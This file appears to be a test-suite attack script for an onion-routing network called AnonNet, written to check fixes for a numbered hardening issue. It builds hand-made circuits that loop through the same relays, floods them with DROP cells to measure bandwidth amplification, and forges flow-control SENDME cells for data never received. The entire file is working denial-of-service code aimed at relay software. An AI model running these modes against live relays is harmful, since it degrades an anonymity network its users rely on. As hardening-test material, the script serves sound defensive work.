// Attack script (hardening issue, class 8): circuits of any length through the same relays, and
// SENDMEs for data never received. A stock libp2p host fetches the relays' descriptors, then builds
// circuits by hand (hand-circuit.ts: AnonNet's pure wire and crypto code over raw streams). Modes:
//   loop     extends A-B-A-B-… (two relays) and A-B-C-A-B-C-… (three) as far as the relays allow;
//            reports one line per loop: {mode, relays, extendsAccepted, ended}
//   amplify  builds the longest looping circuit the relays allow and sends `cells` DROP cells to its
//            last hop, `window` at a time, each batch followed by a RESOLVE whose answer says the batch
//            arrived; reports {mode, hops, cellsSent, bytesSent, bytesReceived, ms} (a test or
//            benchmark compares the relays' link counters against these bytes: the amplification)
//   forge    per variant, a circuit through `relays` to an exit (the last one), BEGIN to `target` (an
//            HTTP path on host:port), stream SENDMEs as usual but forged circuit SENDMEs (`sendme`:
//            'random-digest' or 'empty') once `at` DATA cells arrived; reports one line per variant
//            {mode, sendme, at, killed, ended, dataCellsReceived, bytesSent, bytesReceived}
// Every report carries the counts a benchmark needs (bytes sent and received by the attacker).
import type { Libp2p } from '@libp2p/interface';
import { CIRCUIT_PROTOCOL } from '../../../src/circuit/protocol.ts';
import { selectOnionKey } from '../../../src/directory/verify-descriptor.ts';
import { encodeRelayPayload, RelayCommand } from '../../../src/wire/cell.ts';
import { decodeDescriptor } from '../../../src/wire/descriptor.ts';
import { attackArgs, createAttackerHost, openProtocol, report } from './attacker-host.ts';
import { HandCircuit, type HandHop } from './hand-circuit.ts';

interface Args {
  readonly mode: 'loop' | 'amplify' | 'forge';
  /** Multiaddrs with /p2p/ of the relays to use, in order (forge: the last is the exit). */
  readonly relays: readonly string[];
  /** loop: how many extends to try per loop (default 40, the figure of the issue). */
  readonly maxExtends?: number;
  /** amplify: DROP cells to send (default 2000), at most `window` (default 100) unanswered at a time. */
  readonly cells?: number;
  readonly window?: number;
  /** forge: where the exit connects, and the HTTP path to ask for. */
  readonly target?: { readonly host: string; readonly port: number; readonly path: string };
  /**
   * forge: one circuit per variant: `sendme` is what the forged circuit SENDMEs carry, `at` how many
   * DATA cells arrive first (100: one SENDME is due; 0: none). Default [{random-digest, 100}].
   */
  readonly variants?: ReadonlyArray<{ readonly sendme: 'random-digest' | 'empty'; readonly at: number }>;
}

const DESCRIPTOR_PROTOCOL = '/anonnet/descriptor/1.0.0';

/** The relay's own descriptor, over `/anonnet/descriptor/1.0.0`: its identity and current onion key. */
async function fetchHop(host: Libp2p, address: string): Promise<HandHop> {
  const stream = await openProtocol(host, address, DESCRIPTOR_PROTOCOL);
  const chunks: Uint8Array[] = [];
  const done = new Promise<void>((resolve) => {
    stream.addEventListener('message', (evt) => chunks.push(evt.data.subarray()));
    stream.addEventListener('remoteCloseWrite', () => resolve(), { once: true });
    stream.addEventListener('close', () => resolve(), { once: true });
  });
  await stream.close().catch(() => {});
  await done;
  const bytes = Buffer.concat(chunks);
  if (bytes[0] !== 0) throw new Error(`${address}: no descriptor`);
  const d = decodeDescriptor(new Uint8Array(bytes.subarray(1)));
  if (d.kind !== 'ok') throw new Error(`${address}: bad descriptor`);
  const onionKey = selectOnionKey(d.value.descriptor.onionKeys, Date.now(), 60_000);
  if (onionKey === undefined) throw new Error(`${address}: no current onion key`);
  return { identityKey: d.value.descriptor.identityKey, onionKey };
}

async function openCircuit(host: Libp2p, address: string, first: HandHop): Promise<HandCircuit> {
  return HandCircuit.create(await openProtocol(host, address, CIRCUIT_PROTOCOL), first);
}

/** Extends along `cycle` (starting after the first hop) until refused or `max` extends; the count. */
async function extendAlong(c: HandCircuit, cycle: readonly HandHop[], max: number): Promise<number> {
  let accepted = 0;
  for (let i = 0; i < max; i++) {
    if (!(await c.extend(cycle[(i + 1) % cycle.length]!))) break;
    accepted++;
  }
  return accepted;
}

const args = attackArgs<Args>();
const host = await createAttackerHost();
try {
  const hops = await Promise.all(args.relays.map((a) => fetchHop(host, a)));
  const first = args.relays[0]!;
  if (args.mode === 'loop') {
    for (const n of [2, 3]) {
      if (hops.length < n) continue;
      const c = await openCircuit(host, first, hops[0]!);
      const extendsAccepted = await extendAlong(c, hops.slice(0, n), args.maxExtends ?? 40);
      report({
        mode: 'loop',
        relays: n,
        extendsAccepted,
        hops: c.hops,
        ended: c.ended ?? null,
        bytesSent: c.bytesSent,
        bytesReceived: c.bytesReceived,
      });
      c.close();
    }
  } else if (args.mode === 'amplify') {
    const c = await openCircuit(host, first, hops[0]!);
    await extendAlong(c, hops, 8);
    if (c.ended !== undefined)
      throw new Error(`the loop ended at ${c.hops} hops: ${JSON.stringify(c.ended)}`);
    const last = c.hops - 1;
    const total = args.cells ?? 2000;
    const window = args.window ?? 100;
    const started = Date.now();
    const none = new Uint8Array(0);
    const resolve = encodeRelayPayload({ kind: 'resolve', host: 'localhost' });
    // What the loop multiplies is bandwidth, so the attacker keeps a window of cells in flight (a flood
    // that fills the relays' buffers measures their back-pressure instead).
    for (let sent = 0; sent < total; ) {
      const batch = Math.min(window, total - sent);
      for (let i = 0; i < batch; i++) c.sendRelay(last, 0, RelayCommand.DROP, none);
      sent += batch;
      // In order behind the DROPs: once the RESOLVED answer is back, the batch reached the last hop.
      const answer = c.next((m) => m.command === RelayCommand.RESOLVED, 60_000);
      c.sendRelay(last, 1, RelayCommand.RESOLVE, resolve);
      await answer.catch((err: Error) => {
        throw new Error(`${err.message} after ${sent} DROP cells`);
      });
    }
    report({
      mode: 'amplify',
      hops: c.hops,
      cellsSent: c.cellsSent,
      bytesSent: c.bytesSent,
      bytesReceived: c.bytesReceived,
      ms: Date.now() - started,
      ended: c.ended ?? null,
    });
    c.close();
  } else {
    const target = args.target!;
    for (const { sendme, at } of args.variants ?? [{ sendme: 'random-digest', at: 100 }]) {
      const c = await openCircuit(host, first, hops[0]!);
      c.acknowledge = 'streams';
      for (const hop of hops.slice(1))
        if (!(await c.extend(hop))) throw new Error('could not reach the exit');
      const exit = c.hops - 1;
      if (!(await c.begin(1, target.host, target.port))) throw new Error('the exit refused the stream');
      const request = `GET ${target.path} HTTP/1.1\r\nHost: ${target.host}\r\nConnection: close\r\n\r\n`;
      c.sendRelay(exit, 1, RelayCommand.DATA, new TextEncoder().encode(request));
      if (at > 0) await c.next(() => c.dataCellsReceived >= at, 30_000);
      // Ten SENDMEs at once: "I got 1000 more cells", for cells it never received.
      for (let i = 0; i < 10; i++)
        c.sendSendme(exit, 0, sendme === 'empty' ? undefined : crypto.getRandomValues(new Uint8Array(16)));
      const ended = await c.whenEnded(15_000);
      report({
        mode: 'forge',
        sendme,
        at,
        killed: ended?.kind === 'destroy',
        ended: ended ?? null,
        dataCellsReceived: c.dataCellsReceived,
        bytesSent: c.bytesSent,
        bytesReceived: c.bytesReceived,
      });
      c.close();
    }
  }
} catch (err) {
  report({ mode: args.mode, error: (err as Error).message });
  process.exitCode = 1;
} finally {
  await host.stop();
}
